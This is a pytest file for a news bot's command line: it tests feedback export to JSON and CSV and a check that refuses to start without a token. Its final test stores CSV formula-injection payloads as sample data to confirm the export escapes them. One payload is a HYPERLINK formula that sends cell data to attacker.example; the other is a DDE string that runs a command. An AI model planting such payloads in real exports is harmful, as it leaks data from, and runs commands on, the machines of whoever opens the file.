"""bot/cli.py: ``newsbot serve`` refuses to start without a token; ``newsbot feedback`` exports votes."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import typer
from typer.testing import CliRunner

from bot.cli import register
from bot.feedback import FeedbackStore
from retrieval.types import Answer, Citation

runner = CliRunner()


def cli() -> typer.Typer:
    app = typer.Typer()
    register(app)
    return app


def seed_feedback(data_dir: Path) -> None:
    store = FeedbackStore(data_dir / "bot" / "feedback.sqlite3")
    cite = Citation(1, "a1", "a.txt", "Title", "Niniisto said so.", 0, 17)
    answer_id = store.record_answer(
        Answer("Who is president?", "Niniisto [1].", (cite,)), chat_id=5, user_id=6
    )
    store.vote(answer_id, user_id=6, vote="down")


def test_feedback_exports_json_lines(tmp_path: Path) -> None:
    seed_feedback(tmp_path)
    result = runner.invoke(cli(), ["feedback"], env={"NEWSBOT_DATA_DIR": str(tmp_path)})
    assert result.exit_code == 0, result.output
    (row,) = [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]
    assert row["vote"] == "down" and row["question"] == "Who is president?"
    assert row["citations"][0]["quote"] == "Niniisto said so."
    assert "1 votes exported" in result.stderr


def test_feedback_exports_csv_to_a_file(tmp_path: Path) -> None:
    seed_feedback(tmp_path)
    out = tmp_path / "fb.csv"
    args = ["feedback", "--format", "csv", "-o", str(out)]
    result = runner.invoke(cli(), args, env={"NEWSBOT_DATA_DIR": str(tmp_path)})
    assert result.exit_code == 0, result.output
    (row,) = list(csv.DictReader(io.StringIO(out.read_text())))
    assert row["vote"] == "down" and json.loads(row["citations"])[0]["title"] == "Title"


def test_feedback_without_any_votes_exports_nothing(tmp_path: Path) -> None:
    result = runner.invoke(cli(), ["feedback"], env={"NEWSBOT_DATA_DIR": str(tmp_path / "empty")})
    assert result.exit_code == 0 and result.stdout == ""
    assert not (tmp_path / "empty").exists()  # exporting creates nothing


def test_serve_without_a_token_says_what_to_do(tmp_path: Path) -> None:
    env = {"NEWSBOT_DATA_DIR": str(tmp_path), "TELEGRAM_BOT_TOKEN": None, "NEWSBOT_TELEGRAM_BOT_TOKEN": None}
    result = runner.invoke(cli(), ["serve"], env=env)
    assert result.exit_code == 1
    assert "TELEGRAM_BOT_TOKEN" in result.stderr and "Traceback" not in result.output


def test_the_newsbot_command_has_serve_and_feedback() -> None:
    from retrieval.cli import app

    result = runner.invoke(app, ["--help"])
    assert result.exit_code == 0 and "serve" in result.stdout and "feedback" in result.stdout


def test_csv_export_keeps_formulas_as_text_and_json_keeps_them_verbatim(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "bot" / "feedback.sqlite3")
    question = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for sources")'
    answer_id = store.record_answer(Answer(question, "+cmd|' /C calc'!A0", ()), chat_id=-1001, user_id=6)
    store.vote(answer_id, user_id=6, vote="up")
    out = tmp_path / "fb.csv"
    env = {"NEWSBOT_DATA_DIR": str(tmp_path)}
    assert runner.invoke(cli(), ["feedback", "--format", "csv", "-o", str(out)], env=env).exit_code == 0
    (row,) = list(csv.DictReader(io.StringIO(out.read_text())))
    assert row["question"] == "'" + question and row["answer"] == "'+cmd|' /C calc'!A0"
    assert row["chat_id"] == "-1001", "numbers stay numbers"
    exported = runner.invoke(cli(), ["feedback"], env=env)
    assert json.loads(exported.stdout.splitlines()[0])["question"] == question
